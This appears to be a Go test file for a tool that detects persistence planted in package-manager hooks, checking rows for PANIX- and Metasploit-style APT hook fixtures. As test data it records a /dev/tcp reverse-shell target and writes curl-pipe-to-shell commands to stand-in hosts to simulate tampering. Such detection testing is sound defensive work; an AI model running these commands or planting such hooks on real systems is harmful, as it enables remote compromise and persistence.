package hooktargets

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/pkgpersist/pkgpersist/extension/fsroot"
	"github.com/pkgpersist/pkgpersist/extension/table"
)

const rootsDir = "../../../test/roots"

// view is the part of a row a test states.
func view(r table.Row) string {
	s := strings.Join([]string{r["how"], r["lookup"], r["word"], "via=" + r["via"], "target=" + r["target"],
		"resolved=" + r["resolved"], "exists=" + r["target_exists"], "package=" + r["package"],
		"modified=" + r["package_modified"]}, " ")
	if r["fetches"] != "" {
		s += " fetches=" + r["fetches"]
	}
	return s
}

func rowsOf(t *testing.T, root string) []table.Row {
	t.Helper()
	rows, err := Rows(context.Background(), root, "")
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func viewsFrom(rows []table.Row, path string) []string {
	var out []string
	for _, r := range rows {
		if r["path"] == path {
			out = append(out, view(r))
		}
	}
	return out
}

// TestPlantedHooks: the rows of the hooks PANIX and Metasploit write, and
// of the Debian hook beside them (test/roots/*-apt.expected.md explains
// each).
func TestPlantedHooks(t *testing.T) {
	debconf := []string{
		"shell absolute /bin/sh via= target=/bin/sh resolved=/usr/bin/dash exists=1 package=dash modified=0",
		"command absolute /usr/sbin/dpkg-preconfigure via= target=/usr/sbin/dpkg-preconfigure resolved=/usr/sbin/dpkg-preconfigure exists=1 package=debconf modified=0",
		"command builtin true via= target= resolved= exists=0 package= modified=0",
	}
	cases := []struct {
		root, hook string
		want       []string
	}{
		{"msf-apt", "/etc/apt/apt.conf.d/73qTbVzW", []string{
			"shell absolute /bin/sh via= target=/bin/sh resolved=/usr/bin/dash exists=1 package=dash modified=0",
			"command path-lookup setsid via= target=/usr/bin/setsid resolved=/usr/bin/setsid exists=1 package=util-linux modified=0",
			"wrapper absolute /usr/local/bin/Xk3d9Rz via=setsid target=/usr/local/bin/Xk3d9Rz resolved=/usr/local/bin/Xk3d9Rz exists=1 package= modified=0",
		}},
		{"panix-apt", "/etc/apt/apt.conf.d/01python-upgrades", []string{
			"shell absolute /bin/sh via= target=/bin/sh resolved=/usr/bin/dash exists=1 package=dash modified=0",
			"command path-lookup nohup via= target=/usr/bin/nohup resolved=/usr/bin/nohup exists=1 package=coreutils modified=0",
			"wrapper path-lookup setsid via=nohup target=/usr/bin/setsid resolved=/usr/bin/setsid exists=1 package=util-linux modified=0",
			"wrapper absolute /bin/bash via=nohup > setsid target=/bin/bash resolved=/usr/bin/bash exists=1 package=bash modified=0",
			"sh -c path-lookup bash via=nohup > setsid > /bin/bash -c target=/usr/bin/bash resolved=/usr/bin/bash exists=1 package=bash modified=0 fetches=/dev/tcp/10.10.10.10/1337",
		}},
		{"msf-apt", "/etc/apt/apt.conf.d/70debconf", debconf},
		{"panix-apt", "/etc/apt/apt.conf.d/70debconf", debconf},
	}
	for _, c := range cases {
		got := viewsFrom(rowsOf(t, filepath.Join(rootsDir, c.root)), c.hook)
		if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
			t.Errorf("%s %s:\n got:\n  %s\nwant:\n  %s", c.root, c.hook, strings.Join(got, "\n  "), strings.Join(c.want, "\n  "))
		}
	}
	data, err := os.ReadFile(filepath.Join(rootsDir, "msf-apt/usr/local/bin/Xk3d9Rz"))
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(data)
	for _, r := range rowsOf(t, filepath.Join(rootsDir, "msf-apt")) {
		if r["target"] == "/usr/local/bin/Xk3d9Rz" && (r["sha256"] != hex.EncodeToString(sum[:]) || r["mode"] != "0755") {
			t.Errorf("payload provenance: sha256 %s mode %s", r["sha256"], r["mode"])
		}
	}
}

// runsUnowned is hook-runs-unowned's condition.
func runsUnowned(rows []table.Row) []string {
	var out []string
	for _, r := range rows {
		if r["active"] == "1" && r["target_exists"] == "1" && (r["package"] == "" || r["package_modified"] == "1") {
			out = append(out, r["target"])
		}
	}
	sort.Strings(out)
	return out
}

// TestChangedTarget: a package file a hook runs whose content no longer
// has its recorded checksum is package_modified, as is found by the
// detection beside the planted payload.
func TestChangedTarget(t *testing.T) {
	root := copyRoot(t, filepath.Join(rootsDir, "msf-apt"))
	if got := strings.Join(runsUnowned(rowsOf(t, root)), " "); got != "/usr/local/bin/Xk3d9Rz" {
		t.Fatalf("before the change: %s", got)
	}
	if err := os.WriteFile(filepath.Join(root, "usr/sbin/dpkg-preconfigure"), []byte("#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	rows := rowsOf(t, root)
	if got := strings.Join(runsUnowned(rows), " "); got != "/usr/local/bin/Xk3d9Rz /usr/sbin/dpkg-preconfigure" {
		t.Errorf("after the change: %s", got)
	}
	var shebang bool
	for _, r := range rows {
		shebang = shebang || (r["how"] == HowShebang && r["word"] == "/bin/sh" && r["via"] == "/usr/sbin/dpkg-preconfigure" && r["package"] == "dash")
	}
	if !shebang {
		t.Errorf("no row for the #! interpreter of the changed file")
	}
}

func copyRoot(t *testing.T, src string) string {
	t.Helper()
	dst := filepath.Join(t.TempDir(), "root")
	if out, err := exec.Command("cp", "-a", src, dst).CombinedOutput(); err != nil {
		t.Fatalf("cp: %v %s", err, out)
	}
	return dst
}

// TestBadTargets: FIFOs, devices, loops, directories, files over the read
// bound, non-executable files and paths only known at run time are rows
// with the reason, and the table answers at once.
func TestBadTargets(t *testing.T) {
	root := t.TempDir()
	write := func(p, data string, mode os.FileMode) {
		t.Helper()
		full := filepath.Join(root, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(data), mode); err != nil {
			t.Fatal(err)
		}
	}
	link := func(p, to string) {
		t.Helper()
		full := filepath.Join(root, p)
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.Symlink(to, full); err != nil {
			t.Fatal(err)
		}
	}
	write("etc/apt/apt.conf.d/50bad", `DPkg::Post-Invoke { "/t/fifo"; "/t/loop"; "/t/zero"; "/t/dir"; "/t/big"; "/t/noexec"; "./rel"; "$X/y"; "nothere"; "/t/script"; "/t/script2"; "setsid"; "/t/escape"; "/t/dangling"; };
DPkg::Pre-Install-Pkgs { "./rel2"; };
Dir::Bin::methods "/t/methods/";
`, 0o644)
	os.MkdirAll(filepath.Join(root, "t"), 0o755)
	if err := syscall.Mkfifo(filepath.Join(root, "t/fifo"), 0o755); err != nil {
		t.Fatal(err)
	}
	link("t/loop", "loop")
	os.MkdirAll(filepath.Join(root, "dev"), 0o755)
	if err := syscall.Mknod(filepath.Join(root, "dev/zero"), syscall.S_IFCHR|0o666, 1<<8|5); err != nil {
		t.Skipf("mknod: %v", err)
	}
	link("t/zero", "/dev/zero")
	os.MkdirAll(filepath.Join(root, "t/dir"), 0o755)
	big, err := os.Create(filepath.Join(root, "t/big"))
	if err != nil {
		t.Fatal(err)
	}
	big.Truncate(64<<20 + 1)
	big.Chmod(0o755)
	big.Close()
	write("t/noexec", "echo\n", 0o644)
	write("t/script", "#!/usr/bin/env -S python3 -u\nprint(1)\n", 0o755)
	// Linux passes "python3 -u" to env as one argument
	write("t/script2", "#!/usr/bin/env python3 -u\nprint(1)\n", 0o755)
	write("usr/bin/env", "env", 0o755)
	write("usr/bin/python3", "python", 0o755)
	write("usr/local/bin/setsid", "planted", 0o755)
	write("usr/bin/setsid", "util-linux", 0o755)
	link("t/escape", "../../../../../../../../usr/bin/setsid")
	link("t/dangling", "/nowhere/x")
	write("t/methods/http", "m", 0o755)
	write("t/methods/https", "m", 0o755)

	var problems fsroot.Problems
	ctx, cancel := context.WithTimeout(fsroot.WithProblems(context.Background(), &problems), 5*time.Second)
	defer cancel()
	start := time.Now()
	rows, err := Rows(ctx, root, "")
	if err != nil {
		t.Fatal(err)
	}
	if d := time.Since(start); d > 3*time.Second {
		t.Errorf("took %v", d)
	}
	want := map[string]string{ // word → what its row says
		"/t/fifo":          "is a named pipe: cannot be executed",
		"/t/loop":          "symlink loop",
		"/t/zero":          "is a device: cannot be executed",
		"/t/dir":           "is a directory: cannot be executed",
		"/t/big":           "",
		"/t/noexec":        "not executable (mode 0644)",
		"./rel":            "does not exist in the root", // apt runs it in /tmp
		"./rel2":           "relative to the working directory",
		"$X/y":             "only known when the shell runs ($X)",
		"nothere":          "not found on PATH",
		"setsid":           "first on PATH; shadows /usr/bin/setsid",
		"python3 -u":       "not found on PATH",
		"/t/dangling":      "does not exist in the root",
		"/t/methods/http":  "",
		"/t/methods/https": "",
	}
	seen := map[string]bool{}
	for _, r := range rows {
		w := r["word"]
		if reason, ok := want[w]; ok {
			seen[w] = true
			if !strings.Contains(r["reason"], reason) {
				t.Errorf("%s: reason %q, want %q", w, r["reason"], reason)
			}
		}
		switch {
		case w == "./rel" && r["target"] != "/tmp/rel":
			t.Errorf("apt runs DPkg::Post-Invoke hooks in /tmp: %v", r)
		case w == "/t/escape" && r["resolved"] != "/usr/bin/setsid":
			t.Errorf("a link out of the root resolves to %q", r["resolved"])
		case w == "/t/big" && (r["target_exists"] != "1" || r["sha256"] == "" || r["size"] != "67108865"):
			// no size limit: a large target is streamed for its checksum
			t.Errorf("big file: %v", r)
		case w == "/t/fifo" && r["mode"] != "0755":
			t.Errorf("fifo facts: %v", r)
		}
	}
	for w := range want {
		if !seen[w] {
			t.Errorf("no row for %s", w)
		}
	}
	views := strings.Join(func() (s []string) {
		for _, r := range rows {
			s = append(s, view(r))
		}
		return
	}(), "\n")
	for _, v := range []string{
		"shebang absolute /usr/bin/env via=/t/script target=/usr/bin/env",
		"wrapper path-lookup python3 via=/t/script > /usr/bin/env target=/usr/bin/python3",
		"direct absolute /t/methods/ via= target=/t/methods",
	} {
		if !strings.Contains(views, v) {
			t.Errorf("no row %q in\n%s", v, views)
		}
	}
	// FIFOs, devices and loops are rows with their reasons; a target is
	// not something the package manager reads, so none is a problem
	if ps := problems.List(); len(ps) != 0 {
		t.Errorf("problems: %v", ps)
	}
}

// TestRootsGolden: the rows of every fixture root, against
// testdata/golden/<root>.jsonl (PKGPERSIST_UPDATE_GOLDEN=1 rewrites),
// and what every row promises.
func TestRootsGolden(t *testing.T) {
	dirs, _ := filepath.Glob(filepath.Join(rootsDir, "*"))
	for _, dir := range dirs {
		if fi, err := os.Stat(dir); err != nil || !fi.IsDir() {
			continue
		}
		name := filepath.Base(dir)
		rows := rowsOf(t, dir)
		var lines []string
		for _, r := range rows {
			checkRow(t, name, r)
			obj := map[string]string{}
			for k, v := range r {
				if k != "mtime" && k != "uid" && k != "root" {
					obj[k] = v
				}
			}
			b, _ := json.Marshal(obj)
			lines = append(lines, string(b))
		}
		got := strings.Join(lines, "\n") + "\n"
		golden := filepath.Join("testdata/golden", name+".jsonl")
		if os.Getenv("PKGPERSIST_UPDATE_GOLDEN") != "" {
			os.MkdirAll(filepath.Dir(golden), 0o755)
			if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Errorf("%s: %v (PKGPERSIST_UPDATE_GOLDEN=1 writes it)", name, err)
			continue
		}
		if string(want) != got {
			t.Errorf("%s: rows differ from %s (PKGPERSIST_UPDATE_GOLDEN=1 rewrites it; review the diff)", name, golden)
		}
	}
}

func checkRow(t *testing.T, root string, r table.Row) {
	t.Helper()
	fail := func(why string) { t.Errorf("%s: %s: %v", root, why, r) }
	switch {
	case r["target_exists"] == "1" && (r["resolved"] == "" || r["target"] == "" || r["mode"] == ""):
		fail("an existing target without its facts")
	case r["target_exists"] == "1" && r["sha256"] == "" && !strings.Contains(r["reason"], "not read"):
		fail("an existing target without its checksum or the reason")
	case r["target_exists"] == "0" && r["reason"] == "":
		fail("no file and no reason")
	case r["lookup"] == "builtin" && r["target"] != "":
		fail("a builtin with a file")
	case r["source_table"] == "" || r["how"] == "" || r["lookup"] == "":
		fail("a row that does not say where it comes from")
	}
}

func TestLibdnf5Split(t *testing.T) {
	cases := map[string][]string{
		`/usr/bin/sh -c /usr/bin/curl\ -s\ http://h/x\ |\ sh`: {"/usr/bin/sh", "-c", "/usr/bin/curl -s http://h/x | sh"},
		`  /bin/x   a\tb  `:   {"/bin/x", "a\tb"},
		`/bin/my\ prog a\\b`:  {`/bin/my\ prog`, `a\b`},
		"/bin/x a\nb":         {"/bin/x", "a"},
		`/bin/x ${pkg.name}`:  {"/bin/x", "${pkg.name}"},
		``:                    nil,
		`/bin/x trailing\`:    {"/bin/x", "trailing"},
		`"/bin/x" "a b"`:      {`"/bin/x"`, `"a`, `b"`},
		"/bin/x\x00hidden y":  {"/bin/x"},
		`/bin/x \ \ two`:      {"/bin/x", "  two"},
		`a\`:                  {`a\`},
		`/bin/x \n\r\a\f\v\b`: {"/bin/x", "\n\r\a\f\v\b"},
	}
	for in, want := range cases {
		if got := libdnf5Split(in); strings.Join(got, "|") != strings.Join(want, "|") || len(got) != len(want) {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

func TestAptDir(t *testing.T) {
	for hook, want := range map[string]string{
		"APT::Update::Pre-Invoke": "/tmp", "apt::update::post-invoke-success": "/tmp", "DPkg::Post-Invoke": "/tmp",
		"Binary::apt::DPkg::Pre-Invoke": "/tmp", "DPkg::Pre-Install-Pkgs": "", "AptCli::Hooks::Install": "", "DPkg::Options": "",
	} {
		if got := aptDir(hook); got != want {
			t.Errorf("%s: %q, want %q", hook, got, want)
		}
	}
}

// TestDirectoriesNotRunParts: only APT runs the programs of a directory
// its setting names (Dir::Bin::methods); a directory among libzypp's
// plugins or apk's commit hooks is skipped by them, so nothing inside it
// is a program that runs.
func TestDirectoriesNotRunParts(t *testing.T) {
	root := t.TempDir()
	for _, d := range []string{"usr/lib/zypp/plugins/commit/adir", "etc/apk/commit_hooks.d/hdir"} {
		if err := os.MkdirAll(filepath.Join(root, d), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(root, d, "nested"), []byte("#!/bin/sh\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	rows, err := Rows(context.Background(), root, "")
	if err != nil {
		t.Fatal(err)
	}
	dirs := 0
	for _, r := range rows {
		if strings.HasSuffix(r["target"], "/nested") || strings.HasSuffix(r["resolved"], "/nested") {
			t.Errorf("%s runs %s: %v", r["hook"], r["target"], r)
		}
		if strings.HasSuffix(r["target"], "dir") {
			dirs++
		}
	}
	if dirs != 2 {
		t.Errorf("want a row for each directory, got %d: %v", dirs, rows)
	}
}
